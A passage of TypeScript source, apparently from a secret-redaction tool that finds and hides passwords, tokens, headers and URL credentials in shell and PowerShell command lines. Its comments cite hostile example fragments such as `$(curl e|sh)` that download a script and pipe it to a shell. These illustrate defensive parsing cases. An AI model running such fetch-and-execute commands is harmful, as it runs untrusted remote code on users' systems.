  DEFAULT_OPEN.lastIndex = at;
  return DEFAULT_OPEN.test(text) && !/[${}]/.test(text.slice(DEFAULT_OPEN.lastIndex));
}

/**
 * A query pair's value in `word` (see `gluedQueryPairs`) when the pair tells (see `tellingPair`):
 * its name's and a value that says something once references are left out (see `onlyReferences`); in one read partly at
 * run time, the literal text between its run-time parts, each piece a span of its own (see
 * `aroundRunTime`), so both views keep `${X}`, `$(…)` in sight. Undefined otherwise (the word is
 * read by the rules for args).
 */
function queryPairSpans(word: CommandWord, display = false): Span[] | undefined {
  const { value } = word;
  const cut = value.indexOf("=");
  if (!tellingPair(value) || onlyReferences(value.slice(cut + 1))) return undefined;
  const span: Span = { start: cut + 1, end: value.length, name: value.slice(0, cut), sign: SecretSign.Query };
  // A piece that is only references (`$X`, `${X}` beside `$(…)`) says nothing.
  const pieces = (word.dynamic ? aroundRunTime(value, span) : [span]).filter(
    (piece) => !onlyReferences(value.slice(piece.start, piece.end)),
  );
  if (pieces.length === 0) return undefined;
  // A `$(…)` or backtick part that holds a credential the display hides (`$(x --password X)J`):
  // cut around, the piece after it moved the reading past the part's own words, `X` kept in clear
  // (fix180: in an argument's line, in both views). That part is hidden whole, a piece of its own;
  // every other part stays in sight.
  if (!display && word.dynamic) {
    const parts = partsHidingSomething(value, span);
    if (parts.length > 0) return [...pieces, ...parts].sort((a, b) => a.start - b.start);
  }
  // Shown, a value read partly at run time is one span, shown in place as a command line's value
  // is (its literal text hidden, each run-time part read as the display reads a command; fix180:
  // `&token=$(x --password X)J`, cut in pieces, kept `X` in clear: the piece after the part moved
  // the reading past the part's own words).
  return display && word.dynamic ? [span] : pieces;
}

/**
 * The closed `$(…)` and backtick parts of `value` within `span` (outermost ones) that, read as the
 * display reads a command (see `shownShellPart`), have something hidden in them: each a span named as `span`.
 */
function partsHidingSomething(value: string, span: Span): Span[] {
  const out: Span[] = [];
  const mark = () => HIDDEN_MARK;
  let after = span.start;
  for (const [start, end] of [...runTimeCloses(value)].sort((a, b) => a[0] - b[0])) {
    if (start < after || end > span.end || runTimeOpenerAt(value, start) === "{") continue;
    after = end;
    if (shownShellPart(value.slice(start, end), mark, mark).includes(HIDDEN_MARK))
      out.push({ ...span, start, end });
  }
  return out;
}

/**
 * `word`'s value with each escape written in a mixed default's stretch (`\``, `\$`, `\\`, `\J`; see
 * `mixedDefault`, which keeps them as written) made plain text of the same length that says
 * something: `00` for an escaped `` ` ``, `$` or `\`, the character twice for any other (not a
 * label's `_J`: see `saysBesideRunTime`). One pass.
 */
function literalEscapes(word: CommandWord): string {
  let out = "";
  let from = 0;
  for (const { start, end, mixed } of word.defaults ?? []) {
    if (mixed === undefined || start < from) continue;
    out +=
      word.value.slice(from, start) +
      word.value
        .slice(start, end)
        .replace(/\\([\s\S])/g, (_escape, c: string) => (/[`$\\]/.test(c) ? "00" : c + c));
    from = end;
  }
  return out + word.value.slice(from);
}

/** The spans found by the rules for args in one word's value (see `wordSpans`), given the two words before it on its line. */
function ruleSpans(
  word: CommandWord,
  previous: CommandWord | undefined,
  twoBefore?: CommandWord,
  display = false,
): Span[] {
  const value = word.value;
  const literal = (text: string) => !word.dynamic && isLiteral(text);
  // Literal, or read partly at run time with literal text beside that says something (`abc$def`),
  // a quoted string's data word's too (`sh -c "srv --token abc\$X"`).
  // A mixed default's stretches are written as they stand, escapes included (see `mixedDefault`):
  // read as the literal text they are (fix179: `${V:-$(id)\`J}` read `` `J `` as a backtick's part).
  const read = literalEscapes(word);
  const said = (from: number, to = value.length) =>
    literal(value.slice(from, to)) ||
    (word.dynamic && mixedWord(word) && saysBesideRunTime(read.slice(from, to), word.at.slice(from, to)));
  const whole = (from: number, name: string): Span[] => [
    { start: from, end: value.length, name, sign: SecretSign.Flag },
  ];
  // PowerShell's `$env:API_KEY='X'` (its quotes read, as a shell reads them), and `$env:API_KEY = "X"`.
  const env = PWSH_ENV.exec(value);
  if (env?.[2] === "=" && wholeNameTells(env[1] ?? "") && plainLiteral(value.slice(env[0].length)))
    return whole(env[0].length, env[1] ?? "");
  const spaced = previous?.value === "=" && twoBefore ? PWSH_ENV.exec(twoBefore.value) : null;
  if (spaced?.[2] === "" && wholeNameTells(spaced[1] ?? "") && plainLiteral(value))
    return whole(0, spaced[1] ?? "");
  // `--password X`, `--api-key 'X'`: the value right after a flag whose whole name tells; `-X` too,
  // unless it is a flag of its own (see `OWN_FLAG`: `--token --verbose`).
  const before =
    previous && !previous.operator && !previous.dynamic
      ? (FLAG_ALONE.exec(previous.value) ?? winAlone(previous.value))
      : null;
  if (before && wholeNameTells(before[1] ?? "") && !OWN_FLAG.test(value) && said(0))
    return whole(0, before[1] ?? "");
  // curl's `-u user:X`, `-uuser:X` and `--user=user:X` (its proxy's `-U`, `--proxy-user` too), and
  // Samba's `-U user%X`, when X reads as a password (see `userPassword`; quoted, or in a
  // substitution, it may hold a blank: `-u "user:pa ss"`).
  const userFlag = previous && !previous.operator ? previous.value : "";
  const user = USER_FLAG.test(userFlag)
    ? (USER_PASSWORD.exec(value) ?? (/^(?:-U|--user)$/.test(userFlag) ? SAMBA_USER.exec(value) : null))
    : null;
  // Read partly at run time, its password is one when literal text beside says something (`u:abc$X`,
  // `-uuser:abc$(curl …|sh)x`).
  const isPassword = (text: string, from: number) =>
    word.dynamic ? said(from) && saysBesideRunTime(text) : userPassword(text);
  if (user && isPassword(user[2] ?? "", (user[1] ?? "").length + 1))
    return whole((user[1] ?? "").length + 1, "password");
  const tight = TIGHT_USER.exec(value) ?? LONG_USER.exec(value) ?? TIGHT_SAMBA_USER.exec(value);
  if (tight && isPassword(tight[2] ?? "", value.length - (tight[2] ?? "").length))
    return whole(value.length - (tight[2] ?? "").length, "password");
  // `--api-key=X`, and `--env=GITHUB_TOKEN=X`, `GITHUB_TOKEN=X`, `password=X`: an assignment's value.
  let from = 0;
  // A Windows switch's value is read as a flag's (`/password:X`; `/p:Password=X` as its assignment).
  const flag = FLAG.exec(value) ?? WIN_SWITCH.exec(value) ?? DASH_SWITCH.exec(value);
  if (flag && flag[2] !== undefined) {
    from = value.length - flag[2].length;
    if (wholeNameTells(flag[1] ?? "") && said(from)) return whole(from, flag[1] ?? "");
  }
  const assignment = ASSIGNMENT.exec(value.slice(from));
  if (assignment) {
    const name = assignment[1] ?? "";
    // The value starts after `=` (bash's `+=` appends it: `TOKEN+=X` is read as `TOKEN=X` is).
    const start = from + name.length + (assignment[2] ?? "=").length;
    // `"DB_PASSWORD=X exec srv"` (`su app -c "…"`): a quote before the name makes the word no
    // assignment to this shell but a command of its own, whose assignment's value ends at a blank
    // outside its quotes and substitutions (r50 F7: `'TOKEN=abc$(curl e|sh) srv'`).
    const quotedCommand = from === 0 && (word.at[0] ?? word.start) > word.start && /\s/.test(value);
    const end = quotedCommand ? innerWordEnd(value, start) : value.length;
    // The shell that runs that command reads its value partly at run time (a literal default aside).
    const text = value.slice(start, end);
    const inner = quotedCommand && !word.dynamic && /[$`]/.test(text) && literalDefaults(text).length === 0;
    // A command's own `NAME=value` read partly at run time is a secret when literal text beside
    // that says something (`TOKEN=abc$def`: hidden whole).
    const says = inner ? saysBesideRunTime(text) : SHELL_NAME.test(name) ? said(start, end) : literal(text);
    if (wholeNameTells(name) && end > start && says)
      return [{ start, end, name, sign: SecretSign.Flag, ...(inner ? { inner } : {}) }];
  }
  // "X-Api-Key: X", "Authorization: Bearer X" (a header, as curl's -H takes it), also as a flag's
  // value (`--header='X-Api-Key: X'`; r101b: read whole, as no header, it was kept in clear).
  const afterFlag = value.slice(from);
  const header = HEADER_WORD.exec(afterFlag);
  if (header && !URL_START.test(afterFlag) && wholeNameTells(header[1] ?? "") && literal(header[3] ?? ""))
    return whole(value.length - (header[3] ?? "").length, header[1] ?? "");
  const script = previous !== undefined && !previous.operator && SHELL_COMMAND.test(previous.value);
  // A connection string's telling pairs ("Server=db;Password=X;") and a URL's credentials (its
  // userinfo and telling query values), each read in the same word, in the order written. In a
  // word read partly at run time (`"Server=db;Password=X;App=$(…)"`), its closed run-time parts are
  // passed over whole, and a pair's value is one when its literal text says something, beside
  // run-time parts or not, as a `NAME=value`'s does (quotes around a reference say nothing; r61-1:
  // such a word's pairs were never read, so `Password=X` stayed in clear in both views).
  const pairs = connectionSpans(value.slice(from), word.dynamic ? ANY_VALUE : ARG_RULES, word.dynamic);
  // Else a form's or an option list's pairs (`-d "user=a&password=X"`, `-o user=a,password=X`), in
  // a word read wholly as written, as an argument's are (see `listPairs`).
  // A name tells as a command line's assignment's does, by its whole name (see `LINE_RULES`).
  if (pairs.length === 0 && !word.dynamic) pairs.push(...listSpans(value.slice(from), LINE_RULES));
  const spans = pairs
    .map((span) => ({ ...span, start: span.start + from, end: span.end + from }))
    // A shell's own command (`sh -c "srv --api-key=X | tee \$(id);"`, literal to the line's shell)
    // read as one connection string: a pair's value may run over a `$(…)` the shell it is given to
    // runs, which the display keeps in sight, only the text beside it hidden (fix175: it hid it; the
    // export still takes the value whole).
    .flatMap((span) => (display && script && !word.dynamic ? aroundRunTime(value, span) : [span]))
    .filter((span) => {
      if (!word.dynamic) return true;
      const text = value.slice(span.start, span.end);
      return (
        saysBesideRunTime(text, word.at.slice(span.start, span.end)) &&
        (mixedWord(word) || !EXPANSION.test(withoutReferences(text)))
      );
    });
  // A URL's telling query value that is only a reference (`?token=$TOKEN`, see `onlyReferences`)
  // names a variable and holds no secret: a URL whose only sign is such a value keeps it in sight,
  // in both views (fix173: it was taken out as text, as a literal is).
  const urls = urlSpans(value, spans, script);
  if (!word.dynamic) return urls;
  return urls.filter(
    (span) =>
      span.with === undefined ||
      span.sign !== SecretSign.Query ||
      queryValues(span.with).some(
        ({ start, end }) => start === end || !onlyReferences(span.with?.slice(start, end) ?? ""),
      ),
  );
}

/**
 * True when `text` (a query value a shell reads) is only references to variables, `$NAME` or
 * `${NAME}`, with no command to run (`$(…)`, a backtick's, in a default too): what it names is
 * filled at run time, and the text itself holds no secret.
 */
function onlyReferences(text: string): boolean {
  return !/\$\(|`/.test(text) && withoutReferences(text).replace(/\$[A-Za-z_][A-Za-z0-9_]*/g, "") === "";
}

/**
 * Where each telling query pair's value of `url` stands in it (see `tellingPair`: a name that
 * tells, a value that says something once `${…}` references are left out), in order. A telling
 * pair in the fragment is listed as an empty place (`{ start: 0, end: 0 }`), so that a caller
 * asking about the values keeps such a URL flagged. One pass.
 */
function queryValues(url: string): { start: number; end: number }[] {
  const query = url.indexOf("?");
  const hash = url.indexOf("#");
  const out: { start: number; end: number }[] = [];
  if (hash >= 0 && fragmentTells(url.slice(hash))) out.push({ start: 0, end: 0 });
  if (query < 0 || (hash >= 0 && hash < query)) return out;
  let from = query + 1;
  const stop = hash < 0 ? url.length : hash;
  for (const pair of url.slice(from, stop).split("&")) {
    const cut = pair.indexOf("=");
    if (cut >= 0 && tellingPair(pair)) out.push({ start: from + cut + 1, end: from + pair.length });
    from += pair.length + 1;
  }
  return out;
}

/**
 * A URL whose userinfo holds a blank (a word's quoted password: `postgres://u:pa ss@h/db`), read
 * from where `lastIndex` is set: its userinfo (no `/`, `?`, `#` or `@` in it, and no `$` or
 * backtick: a blank inside a run-time part is no password's) to the `@`, then the rest of the URL
 * to a blank.
 */
const SPACED_USERINFO = /[A-Za-z][A-Za-z0-9+.-]*:\/\/[^\s@/?#:$`]*:[^\s@/?#$`]*\s[^@/?#$`]*@\S*/y;

/** A shell's operator: `;`, `|`, `<`, `>`, a line break, `&&`, or a `&` before a blank. */
const WORD_OPERATOR = /[;|<>\n\r]|&&|&\s/y;

/**
 * True when `value` (a word's text) reads as one value: no shell's operator (see `WORD_OPERATOR`)
 * outside the run-time parts it opens and closes (`$(curl e|sh)`'s `|` is its command's), and no
 * run-time part a shell runs left open (see `runTimeOpenerAt`; a `${` it refuses runs nothing). A
 * word with an operator may be a command line given to a program to run; one with a part left open
 * a line a shell refuses. One pass, each part passed over once (see `runTimeCloses`).
 */
function oneValue(value: string): boolean {
  const closes = runTimeCloses(value);
  let i = 0;
  while (i < value.length) {
    const close = closes.get(i);
    if (close !== undefined) {
      i = close;
      continue;
    }
    if (runTimeOpenerAt(value, i) !== "") return false;
    WORD_OPERATOR.lastIndex = i;
    if (WORD_OPERATOR.test(value)) return false;
    i += 1;
  }
  return true;
}

/**
 * A connection string's pair `spans` in `value` (in order), with each URL's credentials outside
 * them added, in order. `script`: `value` is a shell's own command (after `sh -c`).
 */
function urlSpans(value: string, spans: Span[], script = false): Span[] {
  const pairs = spans.length;
  let next = 0;
  let after = 0;
  const blank = /\s/.test(value);
  // Where a URL that runs to the word's end may start (see `URL_LEAD`), whether the word holds a
  // blank and no quote or run-time part, and whether it holds a blank and reads as no command line
  // (see `oneValue`): each read once for the word.
  const lead = blank ? (URL_LEAD.exec(value)?.[0].length ?? 0) : -1;
  let plainText: boolean | undefined;
  const plainWord = () => (plainText ??= blank && !/['"`]|\$[({]/.test(value));
  let loneText: boolean | undefined;
  const lone = () => (loneText ??= blank && !script && oneValue(value));
  // The last `@`, `?` or `#`: a URL carries a sign only through one of them (userinfo ends at an
  // `@`, a query starts at a `?`, a fragment at a `#`), so a URL read to the word's end from past
  // it has none, and is not read again (r83d: a word of 13,000 blank-parted `x://` read each to
  // the end, 0.8 s at 64 KiB, growing as its square).
  let markText: number | undefined;
  const lastMark = () =>
    (markText ??= Math.max(value.lastIndexOf("@"), value.lastIndexOf("?"), value.lastIndexOf("#")));
  for (const { start, url: read, follows } of urlsInWord(value)) {
    if (start < after) continue;
    let url = read;
    let sign: SecretSign | undefined;
    if (follows) {
      // A URL after one with no sign in the same run (`https://h/p,https://u:X@h2`): its userinfo
      // on its own, so what stands between them (a comma, a quote) stays outside its span.
      sign = urlSign(url) === SecretSign.Userinfo ? SecretSign.Userinfo : undefined;
    } else {
      // A password holding a blank, quoted (`"postgres://u:pa ss@h/db"`): the URL runs on to its host.
      SPACED_USERINFO.lastIndex = start;
      const spaced = blank ? SPACED_USERINFO.exec(value) : null;
      // A word that is one URL holding a blank (quoted: `"https://h/p?token=a b"`, also after a
      // `NAME=`, a `--flag=` or a header's `Name: `) and no quote or run-time part is one value to
      // its end, as an argument is (see `argUrl`; it was cut at the blank, `b` kept in clear). So is
      // a URL anywhere in a word holding a blank that reads as no command line (see `lone`), its
      // run-time parts, quotes and a `${` left open the value's (fix176: `"https://h/p?token=a
      // $(curl e|sh) b"`, `"see https://h/p?token=a b"` and `"https://h/p?token=${-  %Q${-  %"` were
      // cut at a blank, the rest kept in clear); the display keeps each run-time part in sight (see
      // `withoutUrlSecrets`). One that reads as a command line (a shell refuses it, or runs it) is
      // read as before.
      const plain =
        (((start === 0 || start === lead) && plainWord()) || lone()) &&
        start < lastMark() &&
        urlSign(value.slice(start)) !== undefined;
      const whole = spaced?.[0] ?? (plain ? value.slice(start) : read);
      // Among a connection string's pairs a URL ends at its `;` (`Server=postgres://u:X@h;Password=Y`).
      const semicolon = pairs > 0 ? whole.indexOf(";") : -1;
      url = semicolon < 0 ? whole : whole.slice(0, semicolon);
      sign = urlSign(url);
      // One with a sign is replaced with the URLs that follow it (see `safeString`).
      if (sign || spaced) after = start + url.length;
    }
    const end = start + url.length;
    while (next < pairs && (spans[next] as Span).end <= start) next += 1;
    if (!sign || (next < pairs && (spans[next] as Span).start < end)) continue;
    spans.push({ start, end, name: undefined, sign, with: url });
  }
  if (pairs > 0 && spans.length > pairs) spans.sort((x, y) => x.start - y.start);
  return spans;
}

/** The index in `at` (increasing) that holds `position`, or -1. */
function indexOfPosition(at: readonly number[], position: number): number {
  let low = 0;
  let high = at.length - 1;
  while (low <= high) {
    const middle = (low + high) >> 1;
    const here = at[middle] as number;
    if (here === position) return middle;
    if (here < position) low = middle + 1;
    else high = middle - 1;
  }
  return -1;
}

/** The first index in `at` (increasing) that holds `position` or more; `at.length` when none does. */
function firstAtOrAfter(at: readonly number[], position: number): number {
  let low = 0;
  let high = at.length;
  while (low < high) {
    const middle = (low + high) >> 1;
    if ((at[middle] as number) < position) low = middle + 1;
    else high = middle;
  }
  return low;
}

/**
 * Whether a program's expression `text` (see `programExpression`) hides a literal that may be a
 * credential: any but a variable's name read from the environment (`os.getenv('HOME')`). One that
 * cannot be read with confidence (a comment, a regex or a string left open: cut short, as a
 * shell word of the program's text is) is not taken.
 */
function hidesCredential(text: string): boolean {
  const read = programExpression(text);
  return (
    read !== undefined &&
    !read.open &&
    read.pieces.some((piece) => piece.hidden && !piece.envName && plainLiteral(piece.text))
  );
}

/** `preferred` and each of `others` that overlaps none of them, both given and returned in the order written. */
function preferring(preferred: readonly Span[], others: readonly Span[]): Span[] {
  if (preferred.length === 0) return [...others];
  const out: Span[] = [];
  let next = 0;
  for (const span of others) {
    while (next < preferred.length && (preferred[next] as Span).end <= span.start) {
      out.push(preferred[next] as Span);
      next += 1;
    }
    if (next < preferred.length && (preferred[next] as Span).start < span.end) continue;
    out.push(span);
  }
  return out.concat(preferred.slice(next));
}

/**
 * A command line (an argument holding whitespace, a pasted `command`) with each secret's value
 * replaced where it is written and every other character kept as written — quotes, operators,
 * substitutions, other flags, spacing: the value after a flag whose whole name tells, a telling
 * `NAME=value`'s value (PowerShell's `$env:NAME=value` too), a program's assignment to its
 * environment in its text (see `PROGRAM_ENV`), curl's `-u user:X`, a header's, a connection
 * string's telling pair's value, a URL's credentials, each key shape; a literal default (`${DB_PASSWORD:-X}`) as a value
 * written there. A value read at run time (`"$PW"`, `$(…)`, a backtick, `${NAME}`) is not a
 * secret. No comment or heredoc is read (a `#` is a character). A shell's own command (after
 * `sh -c`, `bash -lc`, …) is never rewritten so for export: it is only read for a sign (see
 * `shellScript`); the `display` reads it in place (see `shownScript`), as a `script`: each word also
 * read as a data word is. Undefined when nothing is flagged. One pass over the line (a text an
 * unclosed opener runs over is read twice, a shown shell's command once more).
 */
export function commandLineSecrets(
  line: string,
  hide?: SecretHide,
  scriptName: () => string = () => "SHELL_COMMAND",
  display = false,
  script = false,
  shownPairs = display,
  refused = false,
): ArgFound | undefined {
  // On a line the shell refuses (see `lineSecrets`), each `${NAME}` tools-mcp fills in a value is
  // kept as written, the text around it hidden apart (see `aroundFilled`; r75c: `srv TOKEN=Q"${X}J`
  // was exported `TOKEN=${TOKEN}`, `${TOKEN}` standing for `Q"${X}J`: tools-mcp does not read a value
  // it fills again, so the server got `${X}` as written where the original gave it X's value).
  const named = (secret: string, name: string) => {
    const put = (literal: string) => (hide ? hide(literal, name) : reference(name));
    return refused ? aroundFilled(secret, put) : put(secret);
  };
  // Read inside a run-time part the display reads (see `shownShellPart`): that deep already.
  const words = lineWords(line, shownDepth).map((word) => afterEmptyDefaults(line, word));
  let sign: SecretSign | undefined;
  let out = "";
  let at = 0;
  // The line from `at` to `to`, its key shapes replaced.
  const keep = (to: number) => {
    const text = line.slice(at, to);
    const safe = withoutKeys(text, hide);
    if (safe !== text) sign ??= SecretSign.Value;
    out += safe;
    at = to;
  };
  // A word before `word` on its line (a data word's own line; any other word's, operators included).
  const sameLine = (word: CommandWord, other: CommandWord | undefined) =>
    other !== undefined && other.group === word.group ? other : undefined;
  const passwords = wordPasswords(line, words);
  // A program's assignment to its environment (`os.environ['TOKEN']='X'`), read across the line and
  // given to the first word that writes its value in place; words start in order, so one pointer.
  const programs = programValues(line);
  let program = 0;
  const shownExpression = (text: string, name: string) =>
    shownProgramExpression(
      text,
      (secret) => named(secret, name),
      (code) => withoutKeys(code, hide),
    );
  // Where the last expression read in the line as written ends: a value inside it is hidden with it
  // (not scanned again: one pass).
  let expressionEnd = 0;
  // Whether a quote is left open at the line's end, read once from the first word that asks.
  let quoteLeftOpen: boolean | undefined;
  const openAtEnd = (from: number) => {
    quoteLeftOpen ??= quoteOpenAtEnd(line, from);
    return quoteLeftOpen;
  };
  let pwsh: PwshQuotes | undefined;
  const readPwshQuotes = () => {
    pwsh ??= pwshQuotes(line);
    return pwsh;
  };
  // The expression `[from, stop)` of a word's value, read there (the shell's quotes around the
  // program): a span hiding it, shown when written in one piece on the line (no escape inside):
  // its calls stay in sight (r50 F2).
  const wordExpression = (word: CommandWord, from: number, stop: number, name: string): Span => {
    const span: Span = { start: from, end: stop, name, sign: SecretSign.Flag };
    const written = { start: word.at[from] as number, end: (word.at[stop - 1] as number) + 1 };
    // Or written apart only by the shell's line joins (`\\` and a line break, which it drops
    // outside '…'): the text as written reads as the same program, so it is shown so, or
    // hidden whole as written, which fills back byte for byte (r55 R55-1).
    const text = line.slice(written.start, written.end);
    const whole = written.end - written.start === stop - from;
    const joined = !whole && text.replace(LINE_JOIN, "") === word.value.slice(from, stop);
    const shown = !display
      ? undefined
      : whole || joined
        ? shownExpression(text, name)
        : shownApart(word, from, stop, name);
    if (shown !== undefined) Object.assign(span, { written, shown });
    // Hidden whole, written apart by the shell's quoting: as written, so it fills back byte for byte.
    else if (!whole) span.written = written;
    return span;
  };
  // Shown, the expression `[from, stop)` of a word's value written apart by the shell's quoting
  // (`$'…\'X\'…'`, `"…\"X\"…"`; R56-3): read in the value (see `programExpression`), each piece
  // written as it is on the line, a literal's text hidden as written, so it fills back byte for
  // byte and its calls stay in sight. Undefined when no code a name roots is read there.
  const shownApart = (word: CommandWord, from: number, stop: number, name: string) => {
    const read = programExpression(word.value.slice(from, stop));
    if (!read?.runTime) return undefined;
    let out = "";
    let at = word.at[from] as number;
    let k = from;
    for (const piece of read.pieces) {
      const start = k;
      k += piece.text.length;
      if (!piece.hidden || k === start) continue;
      const written = { start: word.at[start] as number, end: (word.at[k - 1] as number) + 1 };
      out +=
        withoutKeys(line.slice(at, written.start), hide) +
        named(line.slice(written.start, written.end), name);
      at = written.end;
    }
    return out + withoutKeys(line.slice(at, (word.at[stop - 1] as number) + 1), hide);
  };
  // The expression from `start` of the line to the statement's end, read in the line as written
  // (the line is the program's own text): a span from `from` in the word to its end (`to`), the
  // expression running over the words after it.
  const lineExpression = (from: number, to: number, start: number, name: string): Span => {
    expressionEnd = statementEnd(line, start);
    const shown = display ? shownExpression(line.slice(start, expressionEnd), name) : undefined;
    return {
      start: from,
      end: to,
      name,
      sign: SecretSign.Flag,
      written: { start, end: expressionEnd },
      // Shown, its calls stay in sight, only its literals hidden (r50 F2).
      ...(shown === undefined ? {} : { shown }),
    };
  };
  // The spans of expressions that start with no literal (see `programSpans`), and of those among
  // them that hide no literal that may be a credential (read only for the display, see `spans`).
  const fromExpression = new WeakSet<Span>();
  const noCredential = new WeakSet<Span>();
  const marked = (span: Span, credential = true) => {
    fromExpression.add(span);
    if (!credential) noCredential.add(span);
    return span;
  };
  // Whether the shell's quote is open at `position` of `word`, read on from the last position asked
  // in the same word (they come in order: one pass over it).
  let quoting = { word: -1, at: 0, close: "" };
  const quotedAt = (word: CommandWord, position: number) => {
    if (quoting.word !== word.start || quoting.at > position)
      quoting = { word: word.start, at: word.start, close: "" };
    while (quoting.at < position) {
      const read = quoteStep(line, quoting.at, quoting.close);
      quoting.close = read.close;
      quoting.at += read.step;
    }
    return quoting.close !== "";
  };
  // Whether each value quoted with the shell's `'\''` idiom stands where the idiom is one (see `programSpans`).
  const idiomHeld = new Map<ProgramValue, boolean>();
  const programSpans = (word: CommandWord): Span[] => {
    while (program < programs.length && (programs[program] as ProgramValue).start < word.start) program += 1;
    const spans: Span[] = [];
    const after = () => spans.at(-1)?.end ?? 0;
    for (let k = program; k < programs.length && (programs[k] as ProgramValue).start < word.end; k += 1) {
      const value = programs[k] as ProgramValue;
      let { start, end, expression } = value;
      const { name, idiom } = value;
      if (start < expressionEnd) continue;
      // The shell's `'\''` idiom is one only where its '…' (or `$'…'`) is open (r64s #2: in
      // `node -e "…= '\''X$Y'\''"` it is program text): elsewhere the value is read as an
      // expression from where the literal starts, as before the idiom was read. Read in the first
      // word whose quotes reach it (not a quote's data word, read again after it with no quotes of
      // its own, nor a word holding it in a substitution); until then taken as the idiom.
      if (idiom) {
        let single = idiomHeld.get(value);
        if (single === undefined && !word.data) {
          const open = quotedAt(word, idiom.from) ? quoting.close : "";
          if (quoting.at === idiom.from) idiomHeld.set(value, open === "'" || open === "$'");
        }
        single = idiomHeld.get(value) ?? true;
        if (single && !idiom.plain) continue;
        if (!single) [start, end, expression] = [idiom.from, idiom.from + 1, true];
        // Read in the word whose '…' it stands in (`'…{TOKEN: '\''X Y'\''}'`), the program's
        // literal is its quotes (the idiom's `\'`) and the text between, and is hidden written
        // whole, the idiom's quotes with it (r64s #4: a value holding a blank, split into two data
        // words, left `'${TOKEN}'\''`).
        else if (!word.data) {
          const from = indexOfPosition(word.at, start + 2);
          const to = indexOfPosition(word.at, end - 2);
          if (from >= 0 && to - from === end - start - 7) {
            // One that goes on (`'\''X'\'' + x`) is read in its data word, the code after it in sight.
            GOES_ON.lastIndex = to + 1;
            if (!GOES_ON.test(word.value)) {
              if (from >= after())
                spans.push({
                  start: from,
                  end: to + 1,
                  name,
                  sign: SecretSign.Flag,
                  written: { start, end },
                });
              continue;
            }
          }
        }
      }
      if (expression) {
        // A value that starts with no plain literal (a call, a prefixed or triple-quoted string;
        // R56-3), read from its first character when it hides a literal that may be a credential.
        const from = firstAtOrAfter(word.at, start);
        if (from >= word.value.length || from < after()) continue;
        // Inside the shell's quotes (`node -e "…"`, `$'…'`) the program is the word's value; else
        // the line is the program's own text.
        // An assignment inside the expression read is read with it, taken or not (one pass).
        if (word.at[from] === start && quotedAt(word, start)) {
          const stop = statementEnd(word.value, from);
          if (stop <= from) continue;
          expressionEnd = (word.at[stop - 1] as number) + 1;
          if (hidesCredential(word.value.slice(from, stop)))
            spans.push(marked(wordExpression(word, from, stop, name)));
          // Shown, one with no credential in it may yet stand in for a word rule that hides it
          // whole: then shown as written (an env variable's name it reads too), key shapes aside.
          else if (display) {
            const span = wordExpression(word, from, stop, name);
            if (span.shown !== undefined && span.written)
              span.shown = withoutKeys(line.slice(span.written.start, span.written.end), hide);
            spans.push(marked(span, false));
          }
        } else {
          expressionEnd = statementEnd(line, start);
          if (hidesCredential(line.slice(start, expressionEnd)))
            spans.push(marked(lineExpression(from, word.value.length, start, name)));
        }
        continue;
      }
      const from = indexOfPosition(word.at, start);
      const to = indexOfPosition(word.at, end - 1);
      if (from < 0 || to - from !== end - 1 - start) continue;
      // A literal that goes on (`'sk-'+'live…'`) makes the whole expression, from its opening
      // quote to the statement's end, the value (r46 R4); one inside the expression before it in
      // this word is hidden with it (not scanned again: one pass).
      const quote = from > 0 ? (word.value[from - 1] as string) : "";
      GOES_ON.lastIndex = to + 2;
      // One holding a run-time part is read as the literal alone, or not at all (r64s #5).
      const literalOnly = value.runTime === true;
      if (quote !== "" && word.value[to + 1] === quote && GOES_ON.test(word.value)) {
        if (literalOnly) continue;
        if (from - 1 >= after())
          spans.push(wordExpression(word, from - 1, statementEnd(word.value, from - 1), name));
        continue;
      }
      // The line is the program's own text (`node -e`'s script read in place): the shell reads the
      // literal's quotes, so whether it goes on is read in the line as written (r48 F3), and the
      // expression, to the statement's end, may run over the words after this one.
      const open = line[start - 1] ?? "";
      const shellQuoted = word.at[from - 1] !== start - 1 && word.at[to + 1] !== end;
      GOES_ON.lastIndex = end + 1;
      if (shellQuoted && (open === "'" || open === '"') && line[end] === open && GOES_ON.test(line)) {
        if (literalOnly) continue;
        if (from >= after()) spans.push(lineExpression(from, word.value.length, start - 1, name));
      } else spans.push({ start: from, end: to + 1, name, sign: SecretSign.Flag });
    }
    return spans;
  };
  // Shown, a POSIX shell's own command written in one quote is read as a line of its own (see `shownScript`).
  const scripts = display ? shellScriptWords(words) : undefined;
  let scriptEnd = 0;
  const pairs = gluedQueryPairs(line, words, shownPairs);
  // Read in the order written, so `at` only moves forward: a quote's words read again are listed
  // before the words of a substitution written before them in the same word (r56: a value flagged
  // in the quote left a `--password X` in the substitution unread).
  const order = words.map((_, index) => index);
  order.sort((a, b) => (words[a] as CommandWord).start - (words[b] as CommandWord).start || a - b);
  order.forEach((index) => {
    let word = words[index] as CommandWord;
    if (word.operator || word.start < scriptEnd) return;
    const shownCommand = scripts?.has(index) ? shownScript(line, word, hide) : undefined;
    if (shownCommand) {
      keep(word.start);
      sign ??= shownCommand.sign;
      out += shownCommand.safe;
      at = scriptEnd = word.end;
      return;
    }
    // The word after a client's password (`sshpass -pX ssh`) is no flag's value.
    const previous = passwords.has(index - 1) ? undefined : sameLine(word, words[index - 1]);
    // PowerShell's `$env:NAME='it''s'`: only the text between its quotes, as written (r46 N2).
    const pwsh =
      word.start >= at
        ? pwshQuotedValue(line, word, previous, sameLine(word, words[index - 2]), readPwshQuotes)
        : undefined;
    if (pwsh) {
      keep(pwsh.start);
      sign ??= SecretSign.Flag;
      // Shown, a "…" value's run-time parts stay in sight, its literal text hidden in place (r50 F1).
      const shown =
        display && line[pwsh.start - 1] === '"'
          ? shownInPlace(
              line,
              { at: pwsh.start, read: pwshStepper(line, pwsh.end) },
              [pwsh.start, pwsh.end],
              (text) => named(text, pwsh.name),
              (text) => shownPwshPart(text, hide, (literal) => named(literal, pwsh.name)),
            )
          : undefined;
      out += shown ?? named(line.slice(pwsh.start, pwsh.end), pwsh.name);
      at = pwsh.end;
      return;
    }
    const password = passwords.get(index);
    // What a word says (a data word joined with the words its quote runs over, see `quotedRun`).
    const spansOf = (reading: CommandWord): Span[] => {
      // Past the depth bound, the display keeps a substitution no word of which tells (r56 R56-2).
      if (reading.deep)
        return display && !deepTells(reading.value)
          ? []
          : [{ start: 0, end: reading.value.length, name: scriptName(), sign: SecretSign.Flag }];
      const end = password?.end ?? reading.value.length;
      const secret = password === undefined ? "" : reading.value.slice(password.at, end);
      if (
        password !== undefined &&
        (!reading.dynamic ||
          (mixedWord(reading) && saysBesideRunTime(secret, reading.at.slice(password.at, end)))) &&
        withoutReferences(secret).trim() !== "" &&
